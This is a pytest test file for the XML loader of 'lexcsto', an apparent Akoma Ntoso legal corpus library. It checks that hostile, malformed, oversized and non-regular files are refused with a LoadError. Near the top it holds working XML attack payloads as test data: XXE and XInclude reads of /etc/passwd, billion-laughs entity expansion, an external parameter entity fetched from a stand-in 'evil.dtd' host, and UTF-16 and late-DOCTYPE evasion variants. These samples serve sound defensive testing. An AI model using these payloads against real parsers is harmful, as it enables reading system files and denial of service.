"""The parser refuses hostile and broken XML with a LoadError naming the file and line; loading writes nothing."""

from __future__ import annotations

import os
from pathlib import Path

import fixture_corpus as fx
import pytest

import lexcsto
from lexcsto.corpus import akn
from lexcsto.errors import LoadError

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"><act>&secret;</act></akomaNtoso>
"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso SYSTEM "http://example.invalid/akn.dtd">
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"/>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<x/>
"""
XINCLUDE = b"""<?xml version="1.0"?>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0" xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include href="file:///etc/passwd" parse="text"/></akomaNtoso>
"""
MALFORMED = b"""<?xml version="1.0"?>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">
  <act>
    <meta></act>
</akomaNtoso>
"""
NOT_AKN = b"""<?xml version="1.0"?>\n<html><body/></html>\n"""
# Issue 19, finding 2: a DOCTYPE beyond the first 4 KiB, and DTDs in UTF-16, which no byte search sees.
LATE_DOCTYPE = (
    b'<?xml version="1.0"?>\n<!--' + b"x" * 5000 + b"-->\n"
    b'<!DOCTYPE akomaNtoso SYSTEM "http://example.invalid/akn.dtd">\n'
    b'<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"/>\n'
)
UTF16_XXE = XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
UTF16_DOCTYPE = (
    EXTERNAL_DTD.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
)

# (case, bytes, what the message says, the line it names or None)
CASES = [
    ("xxe", XXE, "document type declarations and entities are refused", 2),
    ("billion laughs", BILLION_LAUGHS, "document type declarations and entities are refused", 2),
    ("external dtd", EXTERNAL_DTD, "document type declarations and entities are refused", 2),
    ("parameter entity", PARAMETER_ENTITY, "document type declarations and entities are refused", 2),
    ("doctype after 4 KiB", LATE_DOCTYPE, "document type declarations and entities are refused", 3),
    ("utf-16 xxe", UTF16_XXE, "document type declarations and entities are refused", None),
    ("utf-16 external dtd", UTF16_DOCTYPE, "document type declarations and entities are refused", None),
    ("malformed", MALFORMED, "malformed XML", 4),
    ("empty", b"", "malformed XML", None),
    ("binary", bytes(range(256)) * 4, "malformed XML", None),
    ("not akoma ntoso", NOT_AKN, "root element is html", 2),
]


@pytest.mark.parametrize(("case", "data", "message", "line"), CASES, ids=[c[0] for c in CASES])
def test_hostile_or_broken_file_is_refused(
    tmp_path: Path, case: str, data: bytes, message: str, line: int | None
) -> None:
    bad = tmp_path / "x" / "eng@2000-01-01.xml"
    bad.parent.mkdir()
    bad.write_bytes(data)
    # One bad file blocks nothing (issue 12): the load leaves it out and reports it; strict raises it.
    assert [p.path for p in lexcsto.load(tmp_path).problems if p.severity == "error"] == [str(bad)]
    with pytest.raises(LoadError) as info:
        lexcsto.load(tmp_path, strict=True)
    err = info.value
    assert message in err.message
    assert err.path == str(bad)
    if line is not None:
        assert err.line == line
    assert str(err).startswith(f"{bad}:")


def test_xinclude_is_never_processed(tmp_path: Path) -> None:
    root = akn.parse_bytes(XINCLUDE, tmp_path / "x.xml")
    # The include stays an element: nothing is fetched, /etc/passwd never enters the tree.
    assert root.find("{http://www.w3.org/2001/XInclude}include") is not None
    assert "root:" not in "".join(root.itertext())


def test_oversized_file_is_refused_before_parsing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(akn, "MAX_FILE_BYTES", 100)
    big = tmp_path / "big.xml"
    big.write_bytes(b"<a>" + b"x" * 200 + b"</a>")
    with pytest.raises(LoadError, match="at most 100 bytes"):
        akn.parse_file(big)


def test_missing_file_and_missing_folder(tmp_path: Path) -> None:
    with pytest.raises(LoadError, match="cannot read file"):
        akn.parse_file(tmp_path / "nope.xml")
    with pytest.raises(LoadError, match="corpus folder does not exist"):
        lexcsto.load(tmp_path / "nowhere")


def test_loading_writes_nothing(tmp_path: Path) -> None:
    folder = fx.write(tmp_path)
    before = {p: p.stat().st_mtime_ns for p in folder.rglob("*")}
    lexcsto.load(folder)
    lexcsto.validate([folder])
    after = {p: p.stat().st_mtime_ns for p in folder.rglob("*")}
    assert before == after


@pytest.mark.parametrize(
    "data", [XXE, LATE_DOCTYPE, UTF16_XXE, UTF16_DOCTYPE], ids=["xxe", "late", "16x", "16d"]
)
def test_validate_reports_a_hostile_file_as_a_problem(tmp_path: Path, data: bytes) -> None:
    folder = fx.write(tmp_path)
    (folder / "tst" / "eng@2020-01-01.bad.xml").write_bytes(data)
    problems = lexcsto.validate([folder])
    assert any("entities are refused" in p.message for p in problems)


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null"])
def test_a_device_is_refused_before_any_read(device: str) -> None:
    """Issue 19, finding 5: /dev/zero would be read until memory runs out."""
    with pytest.raises(LoadError, match="not a regular file"):
        akn.parse_file(device)


def test_a_fifo_is_refused_without_waiting_for_a_writer(tmp_path: Path) -> None:
    fifo = tmp_path / "eng@2000-01-01.xml"
    os.mkfifo(fifo)
    with pytest.raises(LoadError, match="not a regular file \\(a pipe\\)"):
        akn.parse_file(fifo)
